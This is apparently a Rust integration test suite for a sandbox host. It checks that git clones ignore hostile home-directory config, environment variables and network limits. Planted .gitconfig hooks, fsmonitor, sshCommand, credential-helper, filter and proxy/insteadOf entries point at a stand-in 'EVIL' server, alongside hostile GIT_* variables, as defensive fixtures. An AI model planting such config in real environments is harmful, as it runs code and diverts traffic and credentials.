//! Clones of a new sandbox: what an image, a snapshot or the network of the sandbox brings neither leads git elsewhere nor
//! gets anything from it.

use super::{
    setup::{fails, verb},
    source::{set_secret, with_server},
};
use anyhow::{Context, Result, ensure};
use hostd_core::{Source, clone_argv, clone_env};
use http_body_util::Full;
use hyper::Request;
use serde_json::{Value, json};
use std::path::Path;
use tests::{
    Caller, Random,
    git_server::{GitServer, HeardRequest},
    host::until,
};
use tokio::process::Command;

/// Files of a home directory by which git would run a program, speak to another server or send a credential. `EVIL` is
/// an address.
const HOSTILE_HOME: &str = r#"cd
mkdir -p .config/git hooks template/hooks
printf '#!/bin/sh\ntouch /home/sandbox/ran\n' | tee hooks/post-checkout hooks/reference-transaction template/hooks/post-checkout > /dev/null
chmod +x hooks/* template/hooks/*
cat > .gitconfig <<'END'
[core]
    hooksPath = /home/sandbox/hooks
    fsmonitor = touch /home/sandbox/ran
    gitProxy = touch /home/sandbox/ran
    sshCommand = touch /home/sandbox/ran
    attributesFile = /home/sandbox/attributes
[init]
    templateDir = /home/sandbox/template
    defaultBranch = planted
[url "http://EVIL/"]
    insteadOf = http://127.0.0.1:900/
[http]
    proxy = http://EVIL
    extraHeader = "X-Planted: 1"
[credential]
    helper = "!touch /home/sandbox/ran"
[filter "planted"]
    smudge = touch /home/sandbox/ran
    process = touch /home/sandbox/ran
[include]
    path = /home/sandbox/hooks/config
END
cp .gitconfig .config/git/config
echo '* filter=planted' | tee attributes .config/git/attributes > /dev/null
echo 'machine 127.0.0.1 login planted password planted' > .netrc
chmod 600 .netrc
"#;

#[tokio::test]
async fn what_a_snapshot_brings_does_not_steer_a_clone() -> Result<()> {
    let (server, hostd) = with_server().await?;
    let evil = GitServer::start().await?;
    let operator = hostd.operator()?;
    let first = operator.create(&json!({})).await?;
    operator.prints(&first, &HOSTILE_HOME.replace("EVIL", evil.authority())).await?;
    // The files do what they are made for.
    let caught = "cd; git init -q probe; cd probe; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; \
        ls ~/ran; git symbolic-ref HEAD";
    let caught = operator.prints(&first, caught).await?;
    ensure!(caught == "/home/sandbox/ran\nrefs/heads/planted\n", "{caught}");
    operator.prints(&first, "cd; rm -rf ran probe").await?;
    let snapshot = operator.post(&format!("/v1/sandboxes/{first}/snapshots"), &json!({})).await?;
    let snapshot: Value = snapshot.expect(201)?;

    server.set_credential(Some("git:geheim-token"));
    set_secret(&operator, &server.secret(), "geheim-token").await?;
    let source = json!({"url": server.url(), "dir": "web"});
    let id = operator.create(&json!({"seed": {"snapshot": snapshot["id"]}, "source": source})).await?;
    let shown = operator
        .prints(&id, "cat web/README; cat web/.git/HEAD; ls web/.git/hooks ~/ran 2>/dev/null; true")
        .await?;
    ensure!(shown == "on trunk\nref: refs/heads/trunk\n", "{shown}");
    ensure!(evil.heard().is_empty(), "{:?}", evil.heard());
    let planted =
        |heard: &HeardRequest| heard.credential.as_deref().is_some_and(|sent| sent.contains("planted"));
    ensure!(!server.heard().iter().any(planted), "{:?}", server.heard());
    Ok(())
}

async fn cloned_with(variables: &[(&str, String)], server: &GitServer, dir: &Path) -> Result<String> {
    let source = Source {
        url: server.url(),
        revision: None,
        secret: None,
        depth: None,
        dir: dir.to_str().context("a path")?.to_owned(),
    };
    let argv = clone_argv();
    let mut command = Command::new(&argv[0]);
    command.args(&argv[1..]).current_dir("/").env_clear().env("PATH", "/usr/local/bin:/usr/bin:/bin");
    command.envs(variables.iter().cloned()).envs(clone_env(&source, &source.url, &source.url));
    let output = command.output().await?;
    ensure!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    Ok(std::fs::read_to_string(dir.join("README"))?)
}

/// The variables of an image are those of every job in a sandbox.
#[tokio::test]
async fn variables_of_an_image_do_not_steer_a_clone() -> Result<()> {
    let (server, evil) = (GitServer::start().await?, GitServer::start().await?);
    server.add_commit("main", "README", "on main\n")?;
    let outer = tempfile::tempdir()?;
    let ran = outer.path().join("ran");
    let (program, home) = (format!("touch {}", ran.display()), outer.path().join("home"));
    std::fs::create_dir(&home)?;
    std::fs::write(
        home.join(".gitconfig"),
        format!("[url \"http://{}/\"]\n insteadOf = http://\n", evil.authority()),
    )?;
    let elsewhere = outer.path().join("elsewhere").display().to_string();
    let table: [&[(&str, String)]; 6] = [
        &[("HOME", home.display().to_string()), ("XDG_CONFIG_HOME", elsewhere.clone())],
        &[
            ("GIT_CONFIG_COUNT", "1".to_owned()),
            ("GIT_CONFIG_KEY_0", format!("url.http://{}/.insteadOf", evil.authority())),
            ("GIT_CONFIG_VALUE_0", format!("http://{}/", server.authority())),
        ],
        &[
            ("GIT_DIR", elsewhere.clone()),
            ("GIT_WORK_TREE", elsewhere.clone()),
            ("GIT_INDEX_FILE", elsewhere.clone()),
            ("GIT_OBJECT_DIRECTORY", elsewhere.clone()),
        ],
        &[
            ("GIT_EXEC_PATH", elsewhere.clone()),
            ("GIT_TEMPLATE_DIR", elsewhere.clone()),
            ("GIT_TRACE", elsewhere.clone()),
        ],
        &[
            ("http_proxy", format!("http://{}", evil.authority())),
            ("all_proxy", format!("http://{}", evil.authority())),
        ],
        &[
            ("GIT_SSH_COMMAND", program.clone()),
            ("GIT_ASKPASS", program.clone()),
            ("GIT_PROXY_COMMAND", program),
        ],
    ];
    for (number, variables) in table.into_iter().enumerate() {
        let dir = outer.path().join(number.to_string());
        let content =
            cloned_with(variables, &server, &dir).await.with_context(|| format!("{variables:?}"))?;
        ensure!(content == "on main\n" && !Path::new(&elsewhere).exists(), "{variables:?}");
        ensure!(evil.heard().is_empty() && !ran.exists(), "{variables:?}: {:?}", evil.heard());
    }
    Ok(())
}

#[tokio::test]
async fn a_clone_obeys_the_network_of_its_sandbox() -> Result<()> {
    let (server, hostd) = with_server().await?;
    let operator = hostd.operator()?;
    // hostd is the way to the server, where there is no other.
    let id = operator.create(&json!({"source": {"url": server.url()}, "network": "none"})).await?;
    ensure!(operator.prints(&id, "cat README").await? == "on trunk\n");

    // Nothing compresses this to less than a half.
    let letters: String =
        Random::seeded().bytes(8 << 20).iter().map(|byte| char::from(b'A' + byte % 26)).collect();
    server.add_commit("trunk", "large", &letters)?;
    let spec = json!({"source": {"url": server.url()}, "network": {"max_mb": 1}});
    let view = fails(&operator, &spec).await?;
    ensure!(view["problem"]["code"] == "source_too_large", "{view}");
    let id = view["id"].as_str().context("an id")?;
    let used: Value = operator.get(&format!("/v1/sandboxes/{id}/egress")).await?.expect(200)?;
    ensure!(
        used["used_bytes"].as_u64() >= Some(1 << 20) && used["used_bytes"].as_u64() < Some(3 << 20),
        "{used}"
    );
    Ok(())
}

/// While a clone runs nothing else does: no command, no service, and nobody is let in.
#[tokio::test]
async fn nothing_but_the_clone_runs_in_a_new_sandbox() -> Result<()> {
    let (server, hostd) = with_server().await?;
    let operator = hostd.operator()?;
    server.hold();
    let service =
        json!({"name": "web", "command": "touch ~/served; exec python3 -m http.server 3000", "port": 3000});
    let spec = json!({"source": {"url": server.url()}, "services": [service], "ports": [3000], "visibility": "public"});
    let view: Value = operator.post("/v1/sandboxes?wait=0", &spec).await?.expect(201)?;
    let id = view["id"].as_str().context("an id")?.to_owned();
    server.until_held().await?;
    // A command waits for the sandbox to be ready, and finds it so.
    let (caller, path) = (operator.clone(), format!("/v1/sandboxes/{id}/execs"));
    let line = "cat README && touch ~/ran";
    let asked = tokio::spawn(async move { caller.post(&path, &json!({"shell": line})).await });
    let snapshot = operator.post(&format!("/v1/sandboxes/{id}/snapshots"), &json!({})).await?;
    ensure!(snapshot.status == 409, "{}", snapshot.text());
    let preview = view["previews"]["3000"].as_str().context("an address")?.trim_end_matches('/');
    let (_, port) = preview.rsplit_once(':').context("a port")?;
    let request =
        Request::get("/").header("host", preview.trim_start_matches("http://")).header("accept", "text/html");
    let edge = Caller::tcp(&format!("http://127.0.0.1:{port}"), None);
    let page = edge.call(request.body(Full::default())?).await?;
    ensure!(page.status == 503, "{} {}", page.status, page.text());
    let home = hostd.workspace(&id);
    let ran = home.join("ran").exists() || home.join("served").exists();
    ensure!(!ran && !asked.is_finished(), "only git runs");
    server.release();
    let exec: Value = asked.await??.expect(200)?;
    ensure!(exec["stdout"] == "on trunk\n", "{exec}");
    operator.becomes(&id, "running").await?;
    until("its service", async || Ok(home.join("served").exists().then_some(()))).await?;
    verb(&operator, &id, "stop").await.map(drop)
}
